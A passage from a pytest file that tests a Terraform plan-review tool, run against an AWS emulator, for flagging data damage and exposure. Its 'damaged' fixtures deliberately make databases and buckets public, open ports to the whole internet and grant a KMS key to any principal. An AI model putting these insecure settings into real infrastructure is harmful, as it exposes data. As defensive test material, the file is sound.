                "delete_automated_backups": s["delete_automated_backups"],
                "publicly_accessible": s["public"],
                "storage_encrypted": s["storage_encrypted"],
            }
        },
        "aws_elasticache_replication_group": {
            "cache": {
                "replication_group_id": "dmg-cache",
                "description": "history",
                "node_type": "cache.t4g.micro",
                "num_cache_clusters": 2,
                "engine": "redis",
                "engine_version": "7.1",
                "automatic_failover_enabled": True,
                "apply_immediately": True,
                "snapshot_retention_limit": s["snapshot_days"],
                "transit_encryption_enabled": s["transit_encryption"],
                "at_rest_encryption_enabled": s["at_rest_encryption"],
            }
        },
        "aws_kms_key": {
            "data": {
                "description": "dmg data",
                "is_enabled": s["key_enabled"],
                "enable_key_rotation": s["key_rotation"],
                "deletion_window_in_days": s["key_window"],
                "policy": policy_allowing(s["key_grants"], action="kms:Decrypt"),
            },
            "managed": {"description": "dmg logs", "deletion_window_in_days": 7},
            "doomed": {
                "description": "dmg doomed (scheduled for deletion in the emulator before the damaged plan)",
                "deletion_window_in_days": 7,
            },
        },
        "aws_kms_key_policy": {
            "managed": {
                "key_id": "${aws_kms_key.managed.id}",
                "policy": policy_allowing(s["managed_key_grants"], action="kms:Decrypt"),
            }
        },
        "aws_cloudwatch_log_group": {
            "audit": {
                "name": "dmg-audit",
                "retention_in_days": s["log_days"],
                **({"kms_key_id": "${aws_kms_key.managed.arn}"} if s["log_key"] else {}),
            },
            "forever": {"name": "dmg-forever", "retention_in_days": s["forever_log_days"]},
        },
        "aws_kinesis_stream": {
            "events": {
                "name": "dmg-events",
                "shard_count": 1,
                "retention_period": s["stream_hours"],
                "encryption_type": s["stream_encryption"],
                **({"kms_key_id": "alias/aws/kinesis"} if s["stream_encryption"] == "KMS" else {}),
            }
        },
        "aws_sqs_queue": {
            "dlq": {
                "name": "dmg-dlq",
                "message_retention_seconds": s["queue_seconds"],
                "kms_master_key_id": s["queue_key"],
            }
        },
        "aws_secretsmanager_secret": {"db": {"name": "dmg-db", "recovery_window_in_days": s["secret_days"]}},
        "aws_s3_bucket": {"state": {"bucket": "dmg-state", "force_destroy": s["force_destroy"]}},
        "aws_s3_bucket_versioning": {
            "state": {"bucket": "${aws_s3_bucket.state.id}", "versioning_configuration": {"status": s["versioning"]}}
        },
        "aws_s3_bucket_lifecycle_configuration": {
            "state": {
                "bucket": "${aws_s3_bucket.state.id}",
                "rule": [
                    {
                        "id": "old-versions",
                        "status": "Enabled",
                        "filter": {"prefix": ""},
                        "noncurrent_version_expiration": {"noncurrent_days": s["noncurrent_days"]},
                        **({"expiration": {"days": s["expiry_days"]}} if s["expiry_days"] else {}),
                    }
                ],
            }
        },
        "aws_s3_bucket_policy": {
            "state": {
                "bucket": "${aws_s3_bucket.state.id}",
                "policy": policy_allowing(
                    s["bucket_readers"], action="s3:GetObject", resource="arn:aws:s3:::dmg-state/*"
                ),
            }
        },
        "aws_s3_bucket_public_access_block": {
            "state": {
                "bucket": "${aws_s3_bucket.state.id}",
                **{flag: s["public_access"] for flag in plan_damage.PUBLIC_ACCESS_FLAGS},
            }
        },
        "aws_vpc": {"main": {"cidr_block": "10.40.0.0/16"}},
        "aws_default_security_group": {
            "main": {"vpc_id": "${aws_vpc.main.id}", "ingress": [ingress_block(22, s["default_cidrs"])]}
        },
        "aws_security_group": {
            "web": {
                "name": "dmg-web",
                "description": "inline rules",
                "vpc_id": "${aws_vpc.main.id}",
                "ingress": [ingress_block(443, s["web_cidrs"])],
            },
            "stores": {"name": "dmg-stores", "description": "rules of their own", "vpc_id": "${aws_vpc.main.id}"},
        },
        "aws_vpc_security_group_ingress_rule": {
            "db": {
                "security_group_id": "${aws_security_group.stores.id}",
                "ip_protocol": "tcp",
                "from_port": 5432,
                "to_port": 5432,
                "cidr_ipv4": s["rule_cidr"],
            }
        },
        "aws_security_group_rule": {
            "redis": {
                "type": "ingress",
                "security_group_id": "${aws_security_group.stores.id}",
                "protocol": "tcp",
                "from_port": 6379,
                "to_port": 6379,
                "cidr_blocks": [s["rule_cidr"]],
            }
        },
    }
    if s["created"]:
        resources["aws_db_instance"]["exposed"] = resources["aws_db_instance"]["db"] | {
            "identifier": "dmg-exposed",
            "publicly_accessible": True,
            "storage_encrypted": True,
        }
        resources["aws_s3_bucket"]["exposed"] = {"bucket": "dmg-exposed"}
        resources["aws_s3_bucket_public_access_block"]["exposed"] = {
            "bucket": "${aws_s3_bucket.exposed.id}",
            **{flag: False for flag in plan_damage.PUBLIC_ACCESS_FLAGS},
        }
        resources["aws_vpc_security_group_ingress_rule"]["anywhere6"] = {
            "security_group_id": "${aws_security_group.stores.id}",
            "ip_protocol": "tcp",
            "from_port": 8080,
            "to_port": 8080,
            "cidr_ipv6": "::/0",
        }
        resources["aws_security_group_rule"]["redis6"] = {
            "type": "ingress",
            "security_group_id": "${aws_security_group.stores.id}",
            "protocol": "tcp",
            "from_port": 6380,
            "to_port": 6380,
            "ipv6_cidr_blocks": ["::/0"],
        }
        resources["aws_security_group_rule"]["egress"] = {  # open egress is not ingress: no rule trips
            "type": "egress",
            "security_group_id": "${aws_security_group.stores.id}",
            "protocol": "tcp",
            "from_port": 443,
            "to_port": 443,
            "cidr_blocks": ["0.0.0.0/0"],
        }
        resources["terraform_data"] = {
            "hook": {"input": "x", "provisioner": [{"local-exec": {"command": "echo never-run"}}]}
        }
    return {
        "terraform": {"required_providers": AWS_PROVIDER_REQUIREMENT},
        "provider": emulator_provider(endpoint, DAMAGE_SERVICES),
        "resource": resources,
    }


@pytest.fixture(scope="module")
def damage_plans(tmp_path_factory: pytest.TempPathFactory, emulator: Any) -> Iterator[dict[str, Path]]:
    """``harmless`` and ``damaged`` plan JSON from one applied ``base``; the emulator schedules the deletion of the
    ``doomed`` key between the two (a key scheduled for deletion outside Terraform reads as deleted)."""
    root = tmp_path_factory.mktemp("plan-report-damage")
    with planning(root, emulator) as (emulator, cli, save):

        def configure(name: str) -> Path:
            workdir = root / name
            if name != "base":
                shutil.copytree(root / "base", workdir, symlinks=True)
            workdir.mkdir(exist_ok=True)
            (workdir / "main.tf.json").write_text(
                json.dumps(damage_config(emulator.endpoint, DAMAGE_SETTINGS[name]), indent=1)
            )
            return workdir

        base = configure("base")
        cli.init(base).check()
        cli.apply(base).check()
        result = {"harmless": save("harmless", configure("harmless"))}
        state = json.loads(cli.run(["show", "-json", "-no-color"], base).check().stdout)
        doomed = next(r for r in state["values"]["root_module"]["resources"] if r["address"] == "aws_kms_key.doomed")
        emulator.client("kms").schedule_key_deletion(KeyId=doomed["values"]["key_id"], PendingWindowInDays=7)
        result["damaged"] = save("damaged", configure("damaged"))
        yield result


#: Every rule of ``plan_damage.RULES`` -> the addresses whose change in the ``damaged`` plan must trip it.
RULE_CASES: dict[tuple[str, str], tuple[str, ...]] = {
    ("aws_db_instance", "backup_retention_period"): ("aws_db_instance.db",),
    ("aws_db_instance", "deletion_protection"): ("aws_db_instance.db",),
    ("aws_db_instance", "skip_final_snapshot"): ("aws_db_instance.db",),
    ("aws_db_instance", "delete_automated_backups"): ("aws_db_instance.db",),
    ("aws_db_instance", "publicly_accessible"): ("aws_db_instance.db", "aws_db_instance.exposed"),
    ("aws_db_instance", "storage_encrypted"): ("aws_db_instance.db",),
    ("aws_elasticache_replication_group", "snapshot_retention_limit"): ("aws_elasticache_replication_group.cache",),
    ("aws_elasticache_replication_group", "transit_encryption_enabled"): ("aws_elasticache_replication_group.cache",),
    ("aws_elasticache_replication_group", "at_rest_encryption_enabled"): ("aws_elasticache_replication_group.cache",),
    ("aws_kms_key", "is_enabled"): ("aws_kms_key.data",),
    ("aws_kms_key", "policy"): ("aws_kms_key.data",),
    ("aws_kms_key", "enable_key_rotation"): ("aws_kms_key.data",),
    ("aws_kms_key", "deletion_window_in_days"): ("aws_kms_key.data",),
    ("aws_kms_key_policy", "policy"): ("aws_kms_key_policy.managed",),
    ("aws_cloudwatch_log_group", "retention_in_days"): (
        "aws_cloudwatch_log_group.audit",
        "aws_cloudwatch_log_group.forever",
    ),
    ("aws_cloudwatch_log_group", "kms_key_id"): ("aws_cloudwatch_log_group.audit",),
    ("aws_kinesis_stream", "retention_period"): ("aws_kinesis_stream.events",),
    ("aws_kinesis_stream", "encryption_type"): ("aws_kinesis_stream.events",),
    ("aws_sqs_queue", "message_retention_seconds"): ("aws_sqs_queue.dlq",),
    ("aws_sqs_queue", "kms_master_key_id"): ("aws_sqs_queue.dlq",),
    ("aws_secretsmanager_secret", "recovery_window_in_days"): ("aws_secretsmanager_secret.db",),
    ("aws_s3_bucket", "force_destroy"): ("aws_s3_bucket.state",),
    ("aws_s3_bucket_versioning", "versioning_configuration[0].status"): ("aws_s3_bucket_versioning.state",),
    ("aws_s3_bucket_lifecycle_configuration", "rule[*].noncurrent_version_expiration[*].noncurrent_days"): (
        "aws_s3_bucket_lifecycle_configuration.state",
    ),
    ("aws_s3_bucket_lifecycle_configuration", "rule[*].expiration[*].days"): (
        "aws_s3_bucket_lifecycle_configuration.state",
    ),
    ("aws_s3_bucket_policy", "policy"): ("aws_s3_bucket_policy.state",),
    **{
        ("aws_s3_bucket_public_access_block", flag): (
            "aws_s3_bucket_public_access_block.state",
            "aws_s3_bucket_public_access_block.exposed",
        )
        for flag in plan_damage.PUBLIC_ACCESS_FLAGS
    },
    ("aws_security_group", "ingress"): ("aws_security_group.web",),
    ("aws_default_security_group", "ingress"): ("aws_default_security_group.main",),
    ("aws_vpc_security_group_ingress_rule", "cidr_ipv4"): ("aws_vpc_security_group_ingress_rule.db",),
    ("aws_vpc_security_group_ingress_rule", "cidr_ipv6"): ("aws_vpc_security_group_ingress_rule.anywhere6",),
    ("aws_security_group_rule", "cidr_blocks"): ("aws_security_group_rule.redis",),
    ("aws_security_group_rule", "ipv6_cidr_blocks"): ("aws_security_group_rule.redis6",),
}
DAMAGE_HEADING = "## 🛑 In-place damage to data or its protection"


def test_every_damage_rule_has_a_real_plan_case() -> None:
    """A new rule needs a resource in ``damage_config`` and a row here: the real plan below checks each one."""
    assert set(RULE_CASES) == {(rule.type, rule.attribute) for rule in plan_damage.RULES}


def tripped_rules(plan: Path) -> dict[str, set[str]]:
    """``address -> attributes of the rules it trips``, straight from the plan JSON through ``find_damage``."""
    found: dict[str, set[str]] = {}
    for item in json.loads(plan.read_text())["resource_changes"]:
        for damage in plan_damage.find_damage(item):
            found.setdefault(item["address"], set()).add(damage.rule.attribute)
    return found


@TERRAFORM
@pytest.mark.parametrize("rule", sorted(RULE_CASES), ids=lambda rule: f"{rule[0]}.{rule[1]}")
def test_real_plan_trips_each_damage_rule(damage_plans: dict[str, Path], rule: tuple[str, str]) -> None:
    tripped = tripped_rules(damage_plans["damaged"])
    for address in RULE_CASES[rule]:
        assert rule[1] in tripped.get(address, set()), f"{address} does not trip {rule}: {tripped.get(address)}"
    assert all(
        rule[1] not in attrs
        for addr, attrs in tripped_rules(damage_plans["harmless"]).items()
        if addr.startswith(rule[0] + ".")
    )


def damage_row(text: str, address: str, attribute: str) -> str:
    """The red damage table's row for ``address`` whose change names ``attribute``."""
    red = text.split(DAMAGE_HEADING)[1].split("\n## ")[0]
    rows = [
        line
        for line in red.splitlines()
        if line.startswith("| ") and f"<code>{address}</code>" in line and f"<code>{attribute}</code>" in line
    ]
    assert len(rows) == 1, f"{address} {attribute}: {rows}\n{red}"
    return rows[0]


@TERRAFORM
def test_real_damaged_plan_is_red_with_old_and_new_values(damage_plans: dict[str, Path], tmp_path: Path) -> None:
    """The two cuts seen on real plans that used to pass green, and the rest of the table, with what is at risk."""
    code, text = report_for(damage_plans["damaged"], tmp_path)
    assert code == EXIT_DESTRUCTIVE
    assert text.index(DAMAGE_HEADING) < text.index("## Summary")
    row = damage_row(text, "aws_cloudwatch_log_group.audit", "retention_in_days")
    assert (
        "| **update** | <code>retention_in_days</code>: <code>30</code> → <code>7</code> | decreased" in row
        and "deleted" in row
    )
    row = damage_row(text, "aws_sqs_queue.dlq", "message_retention_seconds")
    assert "<code>64800</code> → <code>43200</code>" in row and "dead-letter queue" in row
    assert "<code>retention_in_days</code>: <code>0</code> → <code>30</code>" in damage_row(
        text, "aws_cloudwatch_log_group.forever", "retention_in_days"
    )
    assert "<code>true</code> → <code>false</code>" in damage_row(text, "aws_db_instance.db", "deletion_protection")
    assert "<code>7</code> → <code>0</code>" in damage_row(text, "aws_db_instance.db", "backup_retention_period")
    assert '<code>"Enabled"</code> → <code>"Suspended"</code>' in damage_row(
        text, "aws_s3_bucket_versioning.state", "versioning_configuration[0].status"
    )
    policy = damage_row(text, "aws_kms_key.data", "policy")
    assert '+ <code>Statement[Sid="Grant0"]</code>' in policy and '"Principal": {"AWS": "*"}' in policy
    opened = damage_row(text, "aws_security_group.web", "ingress")
    assert "0.0.0.0/0" in opened and "10.0.0.0/8" in opened and "reachable from the whole internet" in opened
    assert "| **create** |" in damage_row(text, "aws_vpc_security_group_ingress_rule.anywhere6", "cidr_ipv6")
    assert "| **replace** |" in damage_row(text, "aws_security_group_rule.redis", "cidr_blocks")
    assert "aws_security_group_rule.egress" not in text.split(DAMAGE_HEADING)[1].split("\n## ")[0]
    # The replaced database and cache are also in the destroy/replace section.
    destroyed = text.split(DAMAGE_HEADING)[0]
    assert "<code>aws_db_instance.db</code> | **replace**" in destroyed
    assert report_for(damage_plans["damaged"], tmp_path, "--allow-destructive")[0] == EXIT_OK


@TERRAFORM
def test_real_key_scheduled_for_deletion_outside_terraform_is_red(
    damage_plans: dict[str, Path], tmp_path: Path
) -> None:
    """moto keeps a key scheduled for deletion as PendingDeletion; the provider reads it as gone (as on AWS)."""
    drift = {
        item["address"]: item["change"]["actions"]
        for item in json.loads(damage_plans["damaged"].read_text())["resource_drift"]
    }
    assert drift["aws_kms_key.doomed"] == ["delete"]
    red = report_for(damage_plans["damaged"], tmp_path)[1].split(DAMAGE_HEADING)[1].split("\n## ")[0]
    row = next(line for line in red.splitlines() if "<code>aws_kms_key.doomed</code>" in line)
    assert "| **deleted outside Terraform** |" in row and "cancel-key-deletion" in row


@TERRAFORM
def test_real_provisioner_is_red(damage_plans: dict[str, Path], tmp_path: Path) -> None:
    code, text = report_for(damage_plans["damaged"], tmp_path)
    section = text.split("## 🛑 Provisioners: commands Terraform runs")[1].split("\n## ")[0]
    assert (
        "| damaged | <code>terraform_data.hook</code> | <code>local-exec</code> | <code>echo never-run</code> |"
        in section
    )
    assert code == EXIT_DESTRUCTIVE


@TERRAFORM
def test_real_harmless_direction_stays_green(damage_plans: dict[str, Path], tmp_path: Path) -> None:
    """Retention raised, a private CIDR added: the same resources, the safe way, are not red."""
    changes = plan_changes(damage_plans["harmless"])
    for address in (
        "aws_cloudwatch_log_group.audit",
        "aws_sqs_queue.dlq",
        "aws_db_instance.db",
        "aws_security_group.web",
        "aws_elasticache_replication_group.cache",
        "aws_kinesis_stream.events",
        "aws_vpc_security_group_ingress_rule.db",
    ):
        assert changes[address] in (["update"], ["delete", "create"]), (
            f"{address}: {changes[address]} (the case changes nothing)"
        )
    code, text = report_for(damage_plans["harmless"], tmp_path)
    assert code == EXIT_OK, text
    assert DAMAGE_HEADING not in text and "Provisioners" not in text
    assert "✅ **No destroy or replace of stateful resources, no in-place damage, no provisioner.**" in text


# ---------------------------------------------------------------------------------------------------------
# Real plans: the change set a deploy approves (tools/change_set.py)
# ---------------------------------------------------------------------------------------------------------
def change_set_of(plan: Path) -> dict[str, Any]:
    from tools import change_set

    return change_set.change_set(json.loads(plan.read_text()))


@TERRAFORM
@pytest.mark.parametrize(("approved", "now"), [("create", "create-again"), ("update", "update-again")])
def test_real_same_configuration_and_state_give_the_same_change_set(
    real_plans: dict[str, Path], approved: str, now: str
) -> None:
    from tools import change_set

    first, second = change_set_of(real_plans[approved]), change_set_of(real_plans[now])
    assert first["changes"] and change_set.differences(first, second) == []
    if approved == "create":  # values known only after apply (ARNs, ids) are in both plans, and do not count
        plan = json.loads(real_plans[approved].read_text())
        assert any(contains_unknown(item["change"].get("after_unknown")) for item in plan["resource_changes"])


def contains_unknown(tree: Any) -> bool:
    from tools.plan_json import contains_true

    return contains_true(tree)


@TERRAFORM
def test_real_drift_between_preview_and_apply_names_the_address(
    real_plans: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The stream's retention was changed outside Terraform after the approved plan: the apply's plan now also
    changes the stream, and the check stops with one line naming it (through the CLI, as the apply job runs it)."""
    from tools import change_set

    approved = tmp_path / "approved.json"
    assert change_set.main(["write", str(real_plans["update"]), "--output", str(approved)]) == change_set.EXIT_SAME
    capsys.readouterr()
    assert (
        change_set.main(["check", "--approved", str(approved), str(real_plans["update-drifted"])])
        == change_set.EXIT_DIFFERENT
    )
    assert capsys.readouterr().out.splitlines() == [
        "aws_kinesis_stream.events: not in the approved preview (now: update)"
    ]
    assert (
        change_set.main(["check", "--approved", str(approved), str(real_plans["update-again"])]) == change_set.EXIT_SAME
    )


@TERRAFORM
def test_real_configuration_change_names_each_address(real_plans: dict[str, Path]) -> None:
    """Approved: the alarm threshold 10 -> 25. Planned now from another configuration: the stream renamed (replace),
    which also changes the alarm's dimensions, not its threshold."""
    from tools import change_set

    found = change_set.differences(change_set_of(real_plans["update"]), change_set_of(real_plans["replace"]))
    assert found == [
        "aws_cloudwatch_metric_alarm.iterator_age: what the plan does differs from the approved preview (update)",
        "aws_kinesis_stream.events: not in the approved preview (now: delete, create)",
    ]


@TERRAFORM
def test_real_change_set_holds_no_value_only_addresses_actions_and_digests(
    damage_plans: dict[str, Path], tmp_path: Path
) -> None:
    """The damaged plan replaces a database whose password is in the plan JSON in clear (sensitive): the change set
    written by the script, as the preview job runs it, holds none of it."""
    plan = damage_plans["damaged"]
    assert "emulator-only-password" in plan.read_text()
    out = tmp_path / "damaged.change-set.json"
    result = subprocess.run(
        [sys.executable, str(REPO_ROOT / "tools" / "change_set.py"), "write", str(plan), "--output", str(out)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    written = json.loads(out.read_text())
    assert (
        set(written) == {"format", "terraform_version", "changes"} and "emulator-only-password" not in out.read_text()
    )
    assert written["changes"]["aws_db_instance.db"]["actions"] == ["delete", "create"]
    for address, item in written["changes"].items():
        assert set(item) == {"actions", "digest"} and re.fullmatch(r"sha256:[0-9a-f]{64}", item["digest"]), address


def test_output_to_a_device_or_pipe_writes_through_it_and_leaves_it_in_place(tmp_path: Path) -> None:
    """`--output /dev/null` once replaced /dev/null with a regular file for the whole machine: a path that is not
    a regular file is written to as it is, never renamed over."""
    import stat
    import threading

    from tools.plan_json import write_atomically

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received: list[str] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_text(encoding="utf-8")), daemon=True)
    reader.start()
    write_atomically(str(pipe), "report\n")
    reader.join(timeout=10)
    assert received == ["report\n"]
    assert stat.S_ISFIFO(pipe.stat().st_mode), "the pipe is still a pipe"
    assert [p.name for p in tmp_path.iterdir()] == ["pipe"], "no temporary file left beside it"
